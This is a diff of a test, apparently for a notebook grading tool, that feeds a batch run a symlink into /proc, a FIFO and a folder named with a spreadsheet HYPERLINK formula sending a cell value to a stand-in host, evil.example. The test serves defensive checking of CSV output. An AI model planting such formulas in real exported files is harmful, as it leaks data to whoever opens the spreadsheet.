@@ -95,7 +95,7 @@ def test_links_to_a_classmate_a_pipe_and_a_fifo_in_a_batch(tmp_path):
     os.symlink("/proc/self/fd/14", klass / "carol" / f"{CH5}.ipynb")
     (klass / "dave").mkdir()
     os.mkfifo(klass / "dave" / f"{CH5}.ipynb")
-    formula = '=HYPERLINK("https://evil.example/?leak="&B4,"x")'
+    formula = '=HYPERLINK("evil.example?leak="&B4,"x")'  # (no slash: a folder name)
     _copy(CH5, klass / formula, kind="exercises")
     r = _batch(klass, "--jobs", "2", "--csv", tmp_path / "grades.csv")
     assert r.returncode == 0, r.stderr
